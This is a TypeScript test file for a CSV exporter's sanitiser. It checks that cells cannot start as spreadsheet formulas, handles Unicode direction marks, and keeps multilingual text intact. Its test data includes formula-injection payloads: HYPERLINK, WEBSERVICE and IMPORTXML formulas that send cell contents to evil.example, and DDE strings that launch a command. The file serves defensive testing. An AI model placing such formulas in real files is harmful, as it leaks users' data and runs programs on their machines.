import { expect, test } from 'vitest';
import { isFormula, safeCell } from '#src/core/data/csv-cell.ts';
import { csvFile } from '#src/core/data/csv-file.ts';
import { readCsv } from '#src/core/data/csv-table.ts';

const TRICKS = {
  'a formula': '=1+1',
  'a link that sends the table away': '=HYPERLINK("https://evil.example/?"&A1,"click")',
  'a program that Excel would start': "=cmd|' /C calc'!A0",
  'a formula with a plus': "+cmd|' /C calc'!A0",
  'a formula with a minus': '-2+3+cmd|x!A0',
  'the @ of old programs': '@SUM(1+1)*cmd|x!A0',
  'a formula of LibreOffice': '=WEBSERVICE("https://evil.example/"&B2)',
  'a formula of Google': '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  'a full-width equals sign': '＝1+1',
  'a full-width plus': '＋1',
  'a full-width hyphen': '－1',
  'a full-width @': '＠SUM(1)',
  'a small equals sign': '﹦1',
  'a small plus': '﹢1+1',
  'a raised plus': '⁺1+1',
  'the minus of mathematics': '−1+1',
  'a space before it': ' =1+1',
  'a no-break space before it': '\u00a0=1+1',
  'a tab before it': '\t=1+1',
  'a carriage return before it': '\r=1+1',
  'a line end before it': '\n=1+1',
  'a direction mark before it': '\u200e=1+1',
  'an Arabic mark before it': '\u061c=1+1',
  'a space without width before it': '\u200b=1+1',
  'a soft hyphen before it': '\u00ad=1+1',
  'a new cell where lists are parted by semicolons': 'Kigali;=1+1',
  'such a cell in quotation marks': 'Kigali;"=1+1"',
  'a new cell behind a tab': 'Kigali\t=1+1',
  'a new line': 'Kigali\n=1+1',
  'a new line of an old Mac': 'Kigali\r@SUM(1)',
  'a phone number': '+33 6 12 34 56 78',
};

test.each(Object.entries(TRICKS))('no spreadsheet runs %s', (_, text) => {
  expect(isFormula(safeCell(text))).toBe(false);
  const [, [cell]] = readCsv(csvFile(['id'], [[text]]))!.rows as [unknown, [{ text: string; isQuoted: boolean }]];
  expect(cell).toMatchObject({ isQuoted: true });
  // Read as programs in other countries read it, and with what is not seen left out, no cell begins like a formula.
  for (const piece of cell.text.split(/[;\t\n\r]/))
    expect(piece.replace(/^[\s"\p{Default_Ignorable_Code_Point}]+/u, '').normalize('NFKC')).not.toMatch(/^[=+@\u2212-]/);
});

test.each([
  'Keep it on',
  'Coupure d’internet : 93 jours, 20 % de la population',
  '“Quotes”, commas; semicolons',
  'اتصل بنا: +33 6 12',
  'ኢንተርኔት ሲዘጋ፣ ሰዎች አይሰሙም።',
  'می‌خواهم',
  'e-mail: a@b.example = x',
  '— dash',
  "'already quoted",
])('an ordinary text stays as it is: %s', (text) => {
  expect(safeCell(text)).toBe(text);
});

test('what would turn a line around, and what no text holds, is taken out; line ends become one kind', () => {
  expect(safeCell('\u202eevil\u202c \u2066#On\u2069 a\u0000b\ufeff')).toBe('evil #On ab');
  expect(safeCell('a\r\nb\rc\u2028d')).toBe('a\nb\nc\nd');
  // A mark of direction is at home in Arabic and Hebrew.
  expect(safeCell('قال\u200f (نعم)')).toBe('قال\u200f (نعم)');
});

test('what hides a formula is seen through before the cell is judged', () => {
  expect(safeCell('\u202e=1+1')).toBe("'=1+1");
  expect(safeCell('\u0000=1+1')).toBe("'=1+1");
});

test('numbers are numbers, also below zero, and texts that look like them are texts', () => {
  expect(
    csvFile(
      ['a', 'b'],
      [
        [-5, '-5'],
        [1.5, null],
        [0, ''],
      ],
    ),
  ).toBe('\ufeff"a","b"\r\n-5,"\'-5"\r\n1.5,\r\n0,\r\n');
});

test('quotation marks and line ends come back as they were, in Arabic and in Amharic', () => {
  const texts = ['قالت: "لا"', 'ዛፎች፣ "ውኃ"\nይይዛሉ።', 'a,b', '""', 'نعم; لا'];
  const file = csvFile(
    ['id', 'text'],
    texts.map((text, i) => [i, text]),
  );
  expect(file.startsWith('\ufeff')).toBe(true);
  expect(file.split('\r\n')).toHaveLength(texts.length + 2);
  expect(
    readCsv(file)!
      .rows.slice(1)
      .map((cells) => cells[1]!.text),
  ).toEqual(texts);
});

test('a heading is as safe as a cell, and no file begins like one of a format of the eighties', () => {
  // Excel takes a file whose first letters are ID for SYLK.
  const file = csvFile(['ID', '=1+1'], []);
  expect(file).toBe('\ufeff"ID","\'=1+1"\r\n');
});

test('a table that is cut off or mended by hand is told from a whole one', () => {
  const whole = csvFile(['a', 'b'], [['x', 1]]);
  expect(readCsv(whole)?.rows).toHaveLength(2);
  for (const broken of [whole.slice(1), whole.slice(0, -1), whole.replace('"x"', '"x'), whole.replace(',1', ''), `${whole}"y"\r\n`])
    expect(readCsv(broken)).toBeUndefined();
});
